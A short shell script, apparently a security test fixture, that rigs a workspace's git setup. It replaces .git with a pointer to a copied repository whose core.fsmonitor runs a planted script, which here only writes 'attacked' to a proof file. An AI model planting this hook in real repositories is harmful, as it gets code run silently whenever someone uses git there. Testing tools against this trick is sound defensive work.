# Replaces its workspace's .git by a file that names a repository with a monitor of its own.
cd "$WORKSPACE" || exit 2
cp -r .git src/evil || exit 2
printf '#!/bin/sh\necho attacked >>"%s"\n' "$PROOF_FILE" >src/monitor.sh && chmod 755 src/monitor.sh
git --git-dir=src/evil config core.fsmonitor "$WORKSPACE/src/monitor.sh"
git --git-dir=src/evil config core.worktree "$WORKSPACE"
mv .git src/was-git 2>/dev/null && echo "gitdir: $WORKSPACE/src/evil" >.git
echo 'planted: .git'
